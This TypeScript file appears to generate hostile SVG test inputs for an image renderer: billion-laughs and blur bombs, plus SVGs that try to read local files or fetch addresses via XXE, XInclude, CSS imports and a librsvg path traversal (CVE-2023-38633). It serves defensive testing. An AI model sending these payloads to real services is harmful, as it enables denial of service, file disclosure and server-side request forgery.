import type { Bomb } from "./bomb.ts";
import { largePng } from "./raster-bombs.ts";

const SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

const UP = ".?../../../../../../../../../..";

function svg(content: string, size = 'width="100" height="100"', doctype = ""): Buffer {
  return Buffer.from(`${doctype}${SVG_HEAD} ${size}>${content}</svg>`);
}

/** `levels` entities, each ten times the previous one. */
function laughs(levels: number): string {
  const entities = Array.from(
    { length: levels },
    (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
  );
  return `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities.join("")}]>`;
}

function filtered(side: number, primitives: string): Buffer {
  return svg(
    `<filter id="f" x="0" y="0" width="100%" height="100%">${primitives}</filter><rect width="100%" height="100%" filter="url(#f)"/>`,
    `width="${side}" height="${side}"`,
  );
}

export function svgs(): Bomb[] {
  const list: [title: string, ends: Bomb["ends"], bytes: Buffer][] = [
    ["an SVG of a billion laughs", "unreadable", svg("<text>&e9;</text>", undefined, laughs(9))],
    ["an SVG of 60 blurs of 4000²", "dear", filtered(4000, '<feGaussianBlur stdDeviation="90"/>'.repeat(60))],
    [
      "an SVG of dashes of a millionth",
      "bounded",
      svg('<path d="M0 0h99999" stroke="#000" stroke-dasharray=".000001"/>', 'width="5000" height="5000"'),
    ],
    [
      "an SVG of patterns within patterns",
      "bounded",
      svg(
        `${Array.from(
          { length: 12 },
          (_, n) =>
            `<pattern id="p${n + 1}" width=".01" height=".01"><rect width="99" height="99" fill="url(#p${n})"/></pattern>`,
        ).join("")}<rect width="99" height="99" fill="url(#p12)"/>`,
      ),
    ],
    [
      "an SVG with a PNG of 16000² in it",
      "bounded",
      svg(
        `<image width="99" height="99" xlink:href="data:image/png;base64,${largePng().toString("base64")}"/>`,
      ),
    ],
  ];
  return list.map(([title, ends, bytes]) => ({ title, ends, bytes, type: "image/svg+xml" }));
}

/** SVGs that request a picture, a text file and an address, in every way possible in SVG. */
export function reachingSvgs(
  picture: string,
  textFile: string,
  address: string,
): { title: string; bytes: Buffer }[] {
  const text = '<text x="0" y="60" font-size="60" fill="#f00">&x;</text>';
  const ways = (target: string, words: string, name: string): [title: string, bytes: Buffer][] => [
    [`an entity of ${name}`, svg(text, undefined, `<!DOCTYPE svg [<!ENTITY x SYSTEM "${words}">]>`)],
    [
      `a parameter entity of ${name}`,
      svg(text, undefined, `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${target}"> %p;]>`),
    ],
    [`a DTD at ${name}`, svg("<g/>", undefined, `<!DOCTYPE svg SYSTEM "${target}">`)],
    [`an image at ${name}`, svg(`<image width="100" height="100" href="${target}" xlink:href="${target}"/>`)],
    [`a filter's image at ${name}`, filtered(100, `<feImage xlink:href="${target}"/>`)],
    [`a use of ${name}`, svg(`<use href="${target}#a" xlink:href="${target}#a"/>`)],
    [
      `an inclusion of ${name}`,
      svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="text"/>`),
    ],
    [
      `a style import of ${name}`,
      svg(
        `<style>@import url("${target}"); @font-face{font-family:x;src:url("${target}")}</style><text font-family="x">x</text>`,
      ),
    ],
    [
      `a style instruction at ${name}`,
      Buffer.from(`<?xml-stylesheet type="text/css" href="${target}"?>${svg("<g/>")}`),
    ],
    [`a paint at ${name}`, svg(`<rect width="100" height="100" fill="url(${target}#a)"/>`)],
    [
      `a picture within a picture at ${name}`,
      svg(
        `<image width="99" height="99" xlink:href="data:image/svg+xml;base64,${svg(`<image width="99" height="99" xlink:href="${target}"/>`).toString("base64")}"/>`,
      ),
    ],
  ];
  return [
    ...ways(`file://${picture}`, `file://${textFile}`, "a file"),
    ...ways(picture, textFile, "a path"),
    // CVE-2023-38633 of librsvg.
    ...ways(`${UP}${picture}`, `${UP}${textFile}`, "a path after a query"),
    ...ways(address, address, "an address"),
  ].map(([title, bytes]) => ({ title, bytes }));
}
